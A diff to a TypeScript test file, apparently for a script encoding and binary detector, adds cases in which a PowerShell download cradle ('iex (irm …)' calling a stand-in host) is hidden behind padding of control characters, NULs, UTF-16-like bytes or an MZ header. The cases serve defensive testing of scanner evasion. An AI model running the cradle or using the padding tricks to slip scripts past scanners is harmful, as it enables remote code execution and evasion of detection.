@@ -18,6 +18,12 @@ interface Row {
   readonly codePage?: number;
 }
 
+/** As a program begins: "MZ", and where its header is. */
+const program = join(utf8('MZ'), bytes(0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0));
+const cradle = 'iex (irm https://a.invalid/x)\r\n';
+/** The cradle after a comment full of something. */
+const hidden = (filling: string): string => `<#${filling.repeat(4000)}#>${cradle}`;
+
 const script = 'Write-Host "Grüße, 你好 😀"\r\n';
 const rows: readonly Row[] = [
   { title: 'empty', input: bytes(), expected: ['', 'utf-8', false] },
@@ -106,12 +112,61 @@ const rows: readonly Row[] = [
     expected: ['Write-Host\0 1', 'utf-8', false],
   },
   { title: 'NUL bytes', input: new Uint8Array(64), expected: 'binary' },
-  {
-    title: 'a program',
-    input: join(utf8('MZ'), bytes(0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0)),
-    expected: 'binary',
-  },
+  { title: 'a program', input: program, expected: 'binary' },
   { title: 'mostly control characters', input: bytes(1, 2, 3, 4, 0x61, 0x62, 5, 6), expected: 'binary' },
+  {
+    title: 'a script behind control characters',
+    input: utf8(hidden('\x01')),
+    expected: [hidden('\x01'), 'utf-8', false],
+  },
+  {
+    title: 'a script behind NULs',
+    input: utf8(hidden('\0')),
+    expected: [hidden('\0'), 'utf-8', false],
+  },
+  {
+    title: 'a script behind control characters, not UTF-8',
+    input: join(utf8(hidden('\x01')), bytes(0xe9)),
+    expected: [`${hidden('\x01')}é`, 'windows-1252', false],
+  },
+  {
+    title: 'a script behind more than is sampled',
+    input: utf8(`<#${'\x01'.repeat(200_000)}#>${cradle}`),
+    expected: [`<#${'\x01'.repeat(200_000)}#>${cradle}`, 'utf-8', false],
+  },
+  {
+    title: 'a script that begins as a program does',
+    input: join(program, utf8(`\n${cradle}`)),
+    expected: [`MZ\x90\0\x03\0\0\0\x04\0\0\0ÿÿ\0\0\n${cradle}`, 'windows-1252', false],
+  },
+  {
+    title: 'a script behind what looks like UTF-16',
+    input: utf8(hidden('a\0')),
+    expected: [hidden('a\0'), 'utf-8', false],
+  },
+  {
+    title: 'the same for WSH, which knows UTF-16 without a mark',
+    input: utf8(`/*${'a\0'.repeat(4000)}*/${'WScript.Echo(1);'.repeat(4)}`),
+    kind: 'jscript',
+    expected: [`/*${'a\0'.repeat(4000)}*/${'WScript.Echo(1);'.repeat(4)}`, 'utf-8', false],
+  },
+  {
+    title: 'UTF-16LE without a mark, control characters in it',
+    input: le(hidden('\x01')),
+    expected: [hidden('\x01'), 'utf-16le', false],
+  },
+  {
+    title: 'UTF-16LE without a mark, NULs in it',
+    input: le(hidden('\0')),
+    expected: [hidden('\0'), 'utf-16le', false],
+  },
+  {
+    title: 'UTF-16LE without a mark, hiragana for WSH',
+    input: le(`// ${'ありがとう'.repeat(2)}\nWScript.Echo(1);`),
+    kind: 'jscript',
+    expected: [`// ${'ありがとう'.repeat(2)}\nWScript.Echo(1);`, 'utf-16le', false],
+  },
+  { title: 'small numbers of two bytes', input: bytes(1, 0, 2, 0, 3, 0, 4, 0, 1, 0), expected: 'binary' },
   {
     title: 'text with colours and end of file',
     input: utf8('echo \x1b[31mred\x1a'),
